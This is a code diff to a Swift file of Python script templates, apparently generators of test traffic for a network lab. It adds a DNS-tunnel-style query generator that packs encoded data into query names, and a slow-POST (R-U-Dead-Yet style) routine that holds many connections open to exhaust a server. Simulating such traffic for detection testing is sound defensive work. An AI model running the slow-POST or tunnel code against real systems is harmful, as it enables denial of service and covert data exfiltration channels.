@@ -84,6 +84,52 @@ enum Scripts {
         """
     }
 
+    /// DNS-style queries whose names carry data (hex or base32 in labels of
+    /// up to 63 characters under t.lab), `rate` a second to one resolver:
+    /// what a DNS tunnel sends. One socket for all queries, or a new one each.
+    static func dnsTunnel(source: String, resolver: String, rate: Int, dataCharacters: Int, base32: Bool,
+                          socketPerQuery: Bool, seconds: Double) -> String {
+        """
+        import base64, os, random, socket, struct, time
+        random.seed(11)
+        def name():
+            raw = os.urandom(\(dataCharacters))
+            text = (base64.b32encode(raw).decode().rstrip("=").lower() if \(base32 ? "True" : "False") else raw.hex())[:\(dataCharacters)]
+            labels = [text[i:i + 63] for i in range(0, len(text), 63)] + ["t", "lab"]
+            return b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\\x00"
+        def sock():
+            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("\(source)", 0)); u.settimeout(0.5); return u
+        u = sock(); start = time.time(); n = 0
+        while time.time() < start + \(seconds):
+            if \(socketPerQuery ? "True" : "False"): u.close(); u = sock()
+            q = struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + name() + struct.pack("!HH", 16, 1)
+            try: u.sendto(q, ("\(resolver)", 53)); u.recv(2048)
+            except OSError: pass
+            n += 1
+            time.sleep(max(0, start + n / \(rate) - time.time()))
+        """
+    }
+
+    /// Slow POST (R-U-Dead-Yet style): `count` connections announce a large
+    /// body, then send one byte of it every `interval` seconds.
+    static func slowPost(source: String, target: String, port: Int, count: Int, interval: Double, seconds: Double) -> String {
+        """
+        import socket, time
+        conns = []
+        for i in range(\(count)):
+            try:
+                s = socket.create_connection(("\(target)", \(port)), timeout=2, source_address=("\(source)", 0))
+                s.sendall(b"POST /upload HTTP/1.1\\r\\nHost: lab\\r\\nContent-Length: 1000000\\r\\n\\r\\n"); conns.append(s)
+            except OSError: pass
+        end = time.time() + \(seconds)
+        while time.time() < end:
+            for s in conns:
+                try: s.sendall(b"a")
+                except OSError: pass
+            time.sleep(\(interval))
+        """
+    }
+
     /// One upload of `bytes`, paced to `bytesPerSecond` when given.
     static func upload(source: String, target: String, port: Int, bytes: Int, bytesPerSecond: Int?) -> String {
         """
